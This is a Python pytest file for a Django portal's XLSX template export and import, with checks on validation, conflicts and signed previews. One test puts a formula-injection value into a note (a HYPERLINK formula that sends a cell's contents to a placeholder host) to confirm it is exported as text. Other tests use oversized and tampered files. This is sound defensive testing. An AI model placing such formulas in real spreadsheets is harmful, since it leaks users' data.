"""The entry grid as a workbook: what leaves, what comes back, and what is refused."""

import io
import zipfile
from decimal import Decimal

import pytest
import xlsxwriter
from django.core import signing
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from python_calamine import CalamineWorkbook

from tests.factories.coordination import PeriodFactory
from workplans.models import IndicatorVersion, Result
from workplans.services.checks import Entry
from workplans.services.drafts import Draft
from workplans.services.grid import rows_of
from workplans.services.imports import (
    WorkbookNotATemplate,
    WorkbookOfAnotherReport,
    WorkbookTooLarge,
    WorkbookUnreadable,
    pack,
    read_workbook,
    unpack,
)
from workplans.services.refusals import RowNoLongerAsked
from workplans.services.verification import return_result
from workplans.services.workbooks import FIRST_ROW, Column, digest, stamp_of, write_template

from .conftest import IN_TIME

D = Decimal
NUMERATOR, DENOMINATOR, NOTE = Column.NUMERATOR, Column.DENOMINATOR, Column.NOTE


@pytest.fixture
def rows(obligation, partner_officer):
    """The rows as they stand at the moment."""
    return lambda: rows_of(obligation, reader=partner_officer)


@pytest.fixture
def template(obligation, rows):
    """The cells of the template that is downloaded now, as a sheet that can be filled in."""

    def download():
        content = write_template(obligation, rows())
        sheet = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
        return Sheet(sheet.to_python(skip_empty_area=False))

    return download


class Sheet:
    """A workbook as a person has it before him: lines found by code and part."""

    def __init__(self, cells):
        self.cells = cells

    def line(self, code, part="Total"):
        for number, line in enumerate(self.cells):
            if line[Column.CODE] == code and line[Column.PART] == part:
                return number
        raise AssertionError((code, part))

    def read(self, code, column, part="Total"):
        return self.cells[self.line(code, part)][column]

    def fill(self, code, value, column=NUMERATOR, part="Total"):
        self.cells[self.line(code, part)][column] = value
        return self

    def save(self):
        stream = io.BytesIO()
        with xlsxwriter.Workbook(stream, {"in_memory": True, "strings_to_formulas": False}) as book:
            sheet = book.add_worksheet()
            for row, line in enumerate(self.cells):
                for column, cell in enumerate(line):
                    if cell != "":
                        sheet.write(row, column, cell)
        return stream.getvalue()


def faults(found):
    return [(fault.cell, fault.message) for fault in found.faults]


# --- Out ---


def test_the_template_holds_a_line_for_each_value_and_each_part(by_sex, obligation, template):
    sheet = template()

    lines = [line[Column.PART] for line in sheet.cells[FIRST_ROW:] if line[Column.CODE] == "SEK-2"]
    assert lines == ["Total", "Sex: Female", "Sex: Male", "Sex: Not stated"]
    assert sheet.cells[0][0] == stamp_of(obligation) == "baraza-report-1|sek|2021-q1|kcdms"


def test_the_template_shows_what_stands_there_and_what_stood_there(
    stream, quarters, verified, target, draft, template
):
    verified(stream, 120, period=quarters[1])
    target(stream.version, 1200)
    draft(stream, "0", note="None yet.")

    sheet = template()

    assert sheet.read("SEK-1", NUMERATOR) == 0
    assert sheet.read("SEK-1", NOTE) == "None yet."
    assert sheet.read("SEK-1", Column.LAST) == "120 (1 Oct–31 Dec 2020)"
    assert sheet.read("SEK-1", Column.DUE) == "900"


def test_words_that_look_like_formulas_leave_as_words(stream, draft, obligation, rows):
    draft(stream, 1, note='=HYPERLINK("http://127.0.0.1/?"&A2,"x")')

    content = write_template(obligation, rows())

    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


def test_only_cells_that_may_be_filled_in_are_unlocked(
    stream, by_sex, submitted, draft, obligation, rows
):
    submitted(stream, 120)

    content = write_template(obligation, rows())

    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    # The total and three parts of the one row that is open; the other waits for its verifier.
    assert sheet.count("<dataValidation ") == 4
    assert "<sheetProtection" in sheet


# --- In ---


def test_a_filled_in_template_comes_back_to_the_last_digit(
    stream, by_sex, obligation, rows, template, parts
):
    IndicatorVersion.objects.filter(streams=stream).update(data_type="decimal")
    sheet = template()
    sheet.fill("SEK-1", 1250.5).fill("SEK-1", "Two wards.", NOTE)
    sheet.fill("SEK-2", "1,000").fill("SEK-2", 600, part="Sex: Female")
    sheet.fill("SEK-2", 400, part="Sex: Male")

    found = read_workbook(sheet.save(), obligation, rows())

    assert faults(found) == []
    assert [(draft.stream, draft.entry, draft.seen_version) for draft in found.drafts] == [
        (stream, Entry(D("1250.5"), note="Two wards."), None),
        (by_sex, Entry(D(1000), cells=parts(female=600, male=400)), None),
    ]
    assert [
        (change.row.name, change.name, change.before, change.after) for change in found.changes
    ] == [
        ("SEK-1, Kitui", "Value", "–", "1,250.5"),
        ("SEK-1, Kitui", "Note", "", "Two wards."),
        ("SEK-2, Kitui", "Value", "–", "1,000"),
        ("SEK-2, Kitui", "Sex: Female", "–", "600"),
        ("SEK-2, Kitui", "Sex: Male", "–", "400"),
    ]
    assert not Result.objects.exists()


def test_a_template_that_was_not_touched_changes_nothing(
    stream, by_sex, draft, obligation, rows, template, parts
):
    draft(stream, "0.3", note="Line one.\r\nLine two.", deviation="Locusts.")
    draft(by_sex, 5, cells=parts(female=5))

    found = read_workbook(template().save(), obligation, rows())

    assert (found.drafts, found.faults) == ([], [])


def test_an_emptied_cell_makes_the_value_missing_and_a_zero_does_not(
    stream, by_sex, draft, obligation, rows, template
):
    draft(stream, 120)
    draft(by_sex, 5)

    sheet = template().fill("SEK-1", "").fill("SEK-2", 0)
    found = read_workbook(sheet.save(), obligation, rows())

    assert [draft.entry.numerator for draft in found.drafts] == [None, 0]
    assert [change.after for change in found.changes] == ["–", "0"]


def test_the_noise_of_binary_fractions_is_not_a_fifth_decimal(stream, obligation, rows, template):
    IndicatorVersion.objects.update(data_type="decimal")

    found = read_workbook(template().fill("SEK-1", 0.1 + 0.2).save(), obligation, rows())

    assert [draft.entry.numerator for draft in found.drafts] == [D("0.3")]


@pytest.mark.parametrize(
    ("typed", "sentence"),
    [
        ("1e5", "Enter a number, such as 1250 or 1,250.5."),
        ("n/a", "Enter a number, such as 1250 or 1,250.5."),
        ("#DIV/0!", "Enter a number, such as 1250 or 1,250.5."),
        (1.23456, "Enter a number with at most four decimals."),
        (1e15, "This number is too large."),
        (True, "Enter a number; this is a date or another kind of value."),
    ],
)
def test_a_wrong_cell_is_named_by_its_address(stream, obligation, rows, template, typed, sentence):
    sheet = template().fill("SEK-1", typed)

    found = read_workbook(sheet.save(), obligation, rows())

    assert faults(found) == [(f"I{sheet.line('SEK-1') + 1}", sentence)]
    assert found.drafts == []


def test_all_wrong_cells_are_named_at_once(stream, by_sex, obligation, rows, template):
    sheet = template().fill("SEK-1", "x").fill("SEK-2", "y", part="Sex: Male")
    sheet.fill("SEK-1", "z" * 2001, NOTE)

    found = read_workbook(sheet.save(), obligation, rows())

    total, part = sheet.line("SEK-1") + 1, sheet.line("SEK-2", "Sex: Male") + 1
    assert [cell for cell, _sentence in faults(found)] == [f"I{total}", f"L{total}", f"I{part}"]


@pytest.fixture
def share(version_of, stream_of, sex):
    """A percentage, women and men apart."""
    return stream_of(version_of("SEK-3", percentage=True, disaggregations=[sex]))


def test_faults_of_every_kind_are_named_at_once_and_nothing_is_offered_to_save(
    stream, by_sex, share, obligation, rows, template
):
    """12.7 farmers; 12 + 9 − 1 of 20; 5 of 4, with 3 of 4 and 2 of no number.

    The parts of the share add up to its numerator, and need not where one is unread.
    """
    sheet = template().fill("SEK-1", "12.7").fill("SEK-1", "z" * 2001, NOTE)
    sheet.fill("SEK-2", 20).fill("SEK-2", 12, part="Sex: Female")
    sheet.fill("SEK-2", 9, part="Sex: Male").fill("SEK-2", -1, part="Sex: Not stated")
    sheet.fill("SEK-3", 5).fill("SEK-3", 4, DENOMINATOR)
    sheet.fill("SEK-3", 3, part="Sex: Female").fill("SEK-3", 4, DENOMINATOR, "Sex: Female")
    sheet.fill("SEK-3", 2, part="Sex: Male").fill("SEK-3", "many", DENOMINATOR, "Sex: Male")

    found = read_workbook(sheet.save(), obligation, rows())

    at = {
        (code, part): sheet.line(code, part) + 1
        for code in ("SEK-1", "SEK-2", "SEK-3")
        for part in ("Total", "Sex: Male", "Sex: Not stated")
        if (code, part) == ("SEK-1", "Total") or code != "SEK-1"
    }
    assert faults(found) == [
        (f"I{at['SEK-1', 'Total']}", "This is counted in whole numbers."),
        (f"L{at['SEK-1', 'Total']}", "This text has more than 2,000 characters."),
        (f"I{at['SEK-2', 'Sex: Not stated']}", "Not stated: This cannot be less than 0."),
        (f"I{at['SEK-3', 'Total']}", "The numerator (5) is more than the denominator (4)."),
        (f"J{at['SEK-3', 'Sex: Male']}", "Enter a number, such as 1250 or 1,250.5."),
    ]
    assert (found.drafts, found.changes) == ([], [])


@pytest.mark.parametrize(
    ("cells", "total", "sentence"),
    [
        (("12", "9", ""), 20, "Sex: the parts are 1 more than the total."),
        (("12", "", ""), 20, "Sex: the parts are 8 less than the total."),
    ],
)
def test_parts_that_do_not_add_up_are_named_at_the_total(
    stream, by_sex, obligation, rows, template, cells, total, sentence
):
    sheet = template().fill("SEK-2", total)
    for part, value in zip(("Female", "Male", "Not stated"), cells, strict=True):
        sheet.fill("SEK-2", value, part=f"Sex: {part}")

    found = read_workbook(sheet.save(), obligation, rows())

    assert (faults(found), found.drafts) == ([(f"I{sheet.line('SEK-2') + 1}", sentence)], [])


def test_a_quotient_is_checked_in_both_its_numbers(share, stream, obligation, rows, template):
    """The parts 1 of 4 and 2 of 5 make 3 of 9, not 3 of 10; and 4 alone is no quotient."""
    sheet = template().fill("SEK-3", 3).fill("SEK-3", 10, DENOMINATOR)
    sheet.fill("SEK-3", 1, part="Sex: Female").fill("SEK-3", 4, DENOMINATOR, "Sex: Female")
    sheet.fill("SEK-3", 2, part="Sex: Male").fill("SEK-3", 5, DENOMINATOR, "Sex: Male")
    sheet.fill("SEK-3", 4, DENOMINATOR, "Sex: Not stated")

    found = read_workbook(sheet.save(), obligation, rows())

    total, unstated = sheet.line("SEK-3") + 1, sheet.line("SEK-3", "Sex: Not stated") + 1
    assert faults(found) == [
        (f"J{total}", "Sex: the parts are 3 more than the denominator."),
        (f"I{unstated}", "Not stated: Enter the numerator."),
    ]


def test_that_a_reason_is_missing_waits_for_submission(stream, target, obligation, rows, template):
    """12 where 900 are due by now needs a reason, once it is handed in."""
    target(stream.version, 1200)

    found = read_workbook(template().fill("SEK-1", 12).save(), obligation, rows())

    assert (faults(found), len(found.drafts)) == ([], 1)


def test_what_changed_on_the_portal_meanwhile_is_named_with_both_values(
    stream, draft, obligation, rows, template
):
    draft(stream, 120)
    sheet = template()
    draft(stream, 140, seen_version=1)

    found = read_workbook(sheet.fill("SEK-1", 130).save(), obligation, rows())

    sentence = (
        "Changed on the portal since this file was written: there 140, here 130. "
        "Download the template again."
    )
    assert faults(found) == [(f"I{sheet.line('SEK-1') + 1}", sentence)]


def test_a_line_that_was_not_touched_is_no_conflict(
    stream, by_sex, draft, obligation, rows, template
):
    draft(stream, 120)
    sheet = template()
    draft(stream, 140, seen_version=1)

    found = read_workbook(sheet.fill("SEK-2", 5).save(), obligation, rows())

    assert (faults(found), [draft.stream for draft in found.drafts]) == ([], [by_sex])


def test_both_having_typed_the_same_is_no_conflict(stream, draft, obligation, rows, template):
    sheet = template()
    draft(stream, 140)

    found = read_workbook(sheet.fill("SEK-1", 140).save(), obligation, rows())

    assert (found.faults, found.drafts) == ([], [])


def test_what_was_submitted_meanwhile_is_refused(stream, submitted, obligation, rows, template):
    sheet = template()
    submitted(stream, 120)

    found = read_workbook(sheet.fill("SEK-1", 130).save(), obligation, rows())

    assert [sentence for _cell, sentence in faults(found)] == [
        "This value is submitted and waits for verification."
    ]


def test_a_returned_value_can_be_corrected_in_the_file(
    stream, submitted, focal_point, obligation, rows, template
):
    result = return_result(submitted(stream, 120), by=focal_point, reason="Recount.", at=IN_TIME)

    found = read_workbook(template().fill("SEK-1", 110).save(), obligation, rows())

    assert [draft.seen_version for draft in found.drafts] == [result.version]


def test_lines_may_be_sorted_otherwise_but_not_added_or_doubled(
    stream, by_sex, obligation, rows, template
):
    sheet = template()
    sheet.cells.append([""] * len(Column))
    sheet.cells[-1][NUMERATOR] = 5
    sheet.cells.append(list(sheet.cells[sheet.line("SEK-1")]))

    found = read_workbook(sheet.save(), obligation, rows())

    assert [sentence for _cell, sentence in faults(found)] == [
        "This row is not part of the template.",
        "This row stands in the file twice.",
    ]


def test_the_file_of_another_report_is_refused_by_its_name(
    stream, obligation, obligation_of, rows, partner_officer
):
    other = obligation_of(PeriodFactory(year=2020, quarter=4))
    content = write_template(other, rows_of(other, reader=partner_officer))

    with pytest.raises(WorkbookOfAnotherReport) as refused:
        read_workbook(content, obligation, rows())

    assert str(refused.value) == (f"This file is the report of KCDMS to SEK on {other.period}.")


@pytest.mark.parametrize("stamp", ["", "hello", "baraza-report-2|sek|2021-q1|kcdms", "a|b|c|d"])
def test_any_other_workbook_is_refused(stream, obligation, rows, stamp):
    with pytest.raises(WorkbookNotATemplate):
        read_workbook(Sheet([[stamp, "x"]]).save(), obligation, rows())


# --- Hostile files ---


def test_a_file_that_is_no_workbook_is_refused(stream, obligation, rows):
    with pytest.raises(WorkbookUnreadable):
        read_workbook(b"PK\x03\x04 and nothing else", obligation, rows())


def test_one_cell_at_the_far_corner_does_not_fill_the_memory(stream, obligation, rows):
    """Four kilobytes that ask for seventeen thousand million cells (M17)."""
    stream_ = io.BytesIO()
    with xlsxwriter.Workbook(stream_, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "x")
        sheet.write(1_048_575, 16_383, "x")

    with pytest.raises((WorkbookTooLarge, WorkbookUnreadable)):
        read_workbook(stream_.getvalue(), obligation, rows())


def test_more_rows_than_a_template_has_are_refused(stream, obligation, rows):
    with pytest.raises(WorkbookTooLarge):
        read_workbook(Sheet([["x"]] * 5001).save(), obligation, rows())


# --- What is carried from the preview to the saving ---


def test_what_was_packed_is_unpacked_to_the_last_digit(
    by_sex, obligation, rows, parts, partner_officer
):
    drafts = [Draft(by_sex, Entry(D("0.3"), None, parts(female=D("0.3")), "Why.", "Note."), 7)]

    packed = pack(drafts, obligation, by=partner_officer)

    assert unpack(packed, obligation, rows(), by=partner_officer) == drafts


def test_a_row_that_is_asked_no_longer_refuses_all_of_them(
    stream, obligation, rows, partner_officer
):
    packed = pack([Draft(stream, Entry(D(1)))], obligation, by=partner_officer)
    asked = [row for row in rows() if row.stream != stream]

    with pytest.raises(RowNoLongerAsked):
        unpack(packed, obligation, asked, by=partner_officer)


def test_what_was_packed_serves_nobody_else_and_no_other_report(
    stream, obligation, obligation_of, rows, partner_officer, partner_signatory
):
    packed = pack([Draft(stream, Entry(D(1)))], obligation, by=partner_officer)
    other = obligation_of(PeriodFactory(year=2020, quarter=4))

    for report, person in ((obligation, partner_signatory), (other, partner_officer)):
        with pytest.raises(signing.BadSignature):
            unpack(packed, report, rows(), by=person)
    with pytest.raises(signing.BadSignature):
        unpack(packed[:-1] + "x", obligation, rows(), by=partner_officer)


def test_a_mark_tells_zero_from_missing_and_one_number_from_another(parts):
    entries = [
        Entry(),
        Entry(D(0)),
        Entry(D(1)),
        Entry(D(1), D(0)),
        Entry(D(1), note="x"),
        Entry(D(1), deviation="x"),
        Entry(D(1), cells=parts(female=1)),
        Entry(D(1), cells=parts(male=1)),
    ]

    assert len({digest(entry) for entry in entries}) == len(entries)
    assert digest(Entry(D("1.0"))) == digest(Entry(D(1)))


# --- The pages ---


@pytest.fixture
def page(client, obligation, partner_officer):
    client.force_login(partner_officer)
    return reverse("obligation-import", args=obligation.address)


def upload(content, name="report.xlsx"):
    return {"file": SimpleUploadedFile(name, content)}


def test_the_template_is_downloaded(client, by_sex, obligation, partner_officer):
    client.force_login(partner_officer)

    response = client.get(reverse("obligation-template", args=obligation.address))

    assert response["Content-Disposition"] == (
        'attachment; filename="sek-2021-q1-kcdms-report.xlsx"'
    )
    assert response.content[:2] == b"PK"


def test_the_import_shows_first_and_saves_then(client, page, stream, obligation, template):
    sheet = template().fill("SEK-1", 120)

    shown = client.post(page, upload(sheet.save()))

    assert not Result.objects.exists()
    response = client.post(page, {"packed": shown.context["packed"]})
    assert response["Location"] == obligation.get_absolute_url()
    assert stream.results.get().numerator == 120


def test_saving_twice_is_one_deed(client, page, stream, template):
    shown = client.post(page, upload(template().fill("SEK-1", 120).save()))

    for _click in range(2):
        client.post(page, {"packed": shown.context["packed"]})

    assert stream.results.get().version == 1


def test_what_changes_between_showing_and_saving_refuses_all(
    client, page, stream, by_sex, draft, template
):
    shown = client.post(page, upload(template().fill("SEK-1", 120).fill("SEK-2", 9).save()))
    draft(stream, 130)

    response = client.post(page, {"packed": shown.context["packed"]}, follow=True)

    assert [str(message) for message in response.context["messages"]] == [
        "Nothing was saved. Changed meanwhile: SEK-1, Kitui. Choose the file again."
    ]
    assert list(Result.objects.values_list("numerator", flat=True)) == [130]


def test_a_fault_says_what_stands_in_its_line(stream, by_sex, obligation, rows, template):
    sheet = template().fill("SEK-1", "many").fill("SEK-2", "four", part="Sex: Female")

    found = read_workbook(sheet.save(), obligation, rows())

    assert [fault.line for fault in found.faults] == ["SEK-1, Kitui", "SEK-2, Kitui, Sex: Female"]


def test_a_wrong_cell_offers_nothing_to_save(client, page, stream, template):
    response = client.post(page, upload(template().fill("SEK-1", "many").save()))

    assert response.context["packed"] == ""
    assert response.context["found"].faults[0].cell == "I6"


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        (
            "report.xlsx",
            b"not a zip",
            (
                "This is not a readable XLSX file. "
                "Save it as XLSX in the programme that made it, and upload it again."
            ),
        ),
        (
            "report.xls",
            b"\xd0\xcf\x11\xe0",
            (
                "Files of this kind are not taken. Those that are: XLSX. "
                "Save it as one of them, and upload it again."
            ),
        ),
        ("report.pdf", b"%PDF-1.4", None),
        ("report.xlsm", b"PK\x03\x04", None),
        ("report.xlsx", b"", "The submitted file is empty."),
    ],
)
def test_other_files_are_refused_at_the_field(client, page, name, content, sentence):
    response = client.post(page, upload(content, name))

    errors = response.context["form"].errors["file"]
    assert response.status_code == 200
    assert errors
    if sentence:
        assert errors == [sentence]


def test_a_tampered_preview_is_refused(client, page, stream):
    response = client.post(page, {"packed": "x" * 100_000}, follow=True)

    assert [str(message) for message in response.context["messages"]] == [
        "This took too long. Choose the file again."
    ]


def test_another_members_officer_gets_no_template(client, obligation, peer):
    client.force_login(peer)

    response = client.get(reverse("obligation-template", args=obligation.address))

    assert response.status_code == 403
